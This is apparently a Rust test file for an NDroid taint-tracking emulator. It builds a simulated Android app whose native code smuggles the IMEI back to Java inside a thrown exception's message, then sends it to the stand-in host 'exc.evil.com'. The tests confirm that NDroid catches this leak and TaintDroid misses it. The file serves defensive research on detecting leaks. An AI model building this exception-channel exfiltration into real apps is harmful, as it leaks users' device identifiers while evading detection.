//! The exception hook group (§V-B): "Native codes can communicate with
//! Java codes through throwing an exception carrying sensitive
//! information. … NDroid … add[s] the taint of the third parameter of
//! ThrowNew to the string object in the new exception object."
//!
//! The app: Java passes the IMEI to native code; the native code
//! smuggles it back by `ThrowNew`ing an exception whose *message* is
//! the secret; Java catches, extracts `getMessage()`, and sends it.

use ndroid::apps::AppBuilder;
use ndroid::arm::reg::RegList;
use ndroid::arm::Reg;
use ndroid::core::Mode;
use ndroid::dvm::bytecode::DexInsn;
use ndroid::dvm::{InvokeKind, MethodDef, MethodKind, Taint};
use ndroid::jni::dvm_addr;

fn exception_smuggler() -> ndroid::apps::App {
    let mut b = AppBuilder::new(
        "exception-smuggler",
        "ThrowNew carries the secret in the exception message",
    );
    let c = b.class("Lapp/Exc;");
    let exc_class = b.data_cstr("Ljava/lang/RuntimeException;");

    // void smuggle(String secret):
    //   chars = GetStringUTFChars(secret)
    //   ThrowNew(RuntimeException, chars)
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.ldr_const(Reg::R0, exc_class);
    // FindClass wants the class handle for ThrowNew's first arg.
    b.asm.call_abs(dvm_addr("FindClass"));
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.call_abs(dvm_addr("ThrowNew"));
    b.asm.mov_imm(Reg::R0, 0).unwrap();
    b.asm.pop(RegList::of(&[Reg::R4, Reg::PC]));
    let smuggle = b.native_method(c, "smuggle", "VL", true, entry);

    let imei = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")
        .unwrap();
    let get_msg = b
        .program
        .find_method_by_name("Ljava/lang/Throwable;", "getMessage")
        .unwrap();
    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest = b.string_const("exc.evil.com");
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                // 0: secret = getDeviceId()
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: imei,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                // 2: smuggle(secret) — throws
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: smuggle,
                    args: vec![0],
                },
                DexInsn::ReturnVoid,
                // 4: catch handler
                DexInsn::MoveException { dst: 1 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: get_msg,
                    args: vec![1],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::ConstString { dst: 2, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: send,
                    args: vec![2, 1],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(3)
        .with_catch_all(4),
    );
    b.finish("Lapp/Exc;", "main").unwrap()
}

#[test]
fn ndroid_tracks_taint_through_thrown_exception() {
    let sys = exception_smuggler().run(Mode::NDroid).unwrap();
    let leaks = sys.leaks();
    assert_eq!(leaks.len(), 1, "exception-borne secret caught at the sink");
    assert!(leaks[0].taint.contains(Taint::IMEI));
    assert_eq!(leaks[0].dest, "exc.evil.com");
    assert_eq!(*leaks[0].data, *b"000000000000000", "the IMEI itself");
    // The ThrowNew hook logged the taint transfer.
    assert!(sys.trace.contains("ThrowNew Begin"));
    assert!(sys.trace.contains("to exception message string"));
}

#[test]
fn taintdroid_misses_the_exception_channel() {
    let sys = exception_smuggler().run(Mode::TaintDroid).unwrap();
    assert!(sys.leaks().is_empty());
    // The secret still reached the network.
    assert!(sys
        .all_sink_events()
        .iter()
        .any(|e| *e.data == *b"000000000000000"));
}

#[test]
fn exception_caught_by_java_continues_execution() {
    // The app terminates normally (the catch handler ran, no uncaught
    // exception surfaces).
    let result = exception_smuggler().run(Mode::NDroid);
    assert!(result.is_ok());
}
